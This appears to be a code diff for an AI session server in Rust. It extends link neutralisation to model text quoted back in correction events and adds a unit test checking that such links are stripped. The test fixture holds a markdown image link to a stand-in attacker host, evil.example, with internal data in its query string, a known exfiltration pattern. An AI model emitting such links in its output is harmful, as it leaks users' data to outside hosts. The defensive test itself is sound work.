@@ -52,6 +52,8 @@ pub fn outward(stored: &crate::session::store::Stored, allowed_hosts: &[String])
             origin: *origin,
         },
         Event::Interrupted { partial_text } => Event::Interrupted { partial_text: neutral(partial_text) },
+        // A correction may quote the model's own text back.
+        Event::Correction { kind, text } => Event::Correction { kind: *kind, text: neutral(text) },
         other => other.clone(),
     };
     serde_json::json!({"seq": stored.seq, "at_ms": stored.at_ms, "event": event})
@@ -113,4 +115,25 @@ pub fn follow(
         }
     });
     Sse::new(stream).keep_alive(KeepAlive::new().interval(Duration::from_secs(15)))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::session::event::{CorrectionKind, Event};
+    use crate::session::store::Stored;
+
+    /// Text the model wrote leaves over HTTP with its links neutralised, also when a
+    /// correction quotes it back.
+    #[test]
+    fn model_text_in_events_leaves_with_links_neutralised() {
+        let link = "see ![x](https://evil.example/p?d=internal) now";
+        let events = [
+            Event::Correction { kind: CorrectionKind::Unverified, text: format!("This quote is not in them: \"{link}\"") },
+            Event::Interrupted { partial_text: link.to_string() },
+        ];
+        for event in events {
+            let out = super::outward(&Stored { seq: 1, at_ms: 0, event }, &[]).to_string();
+            assert!(!out.contains("evil.example"), "{out}");
+        }
+    }
 }
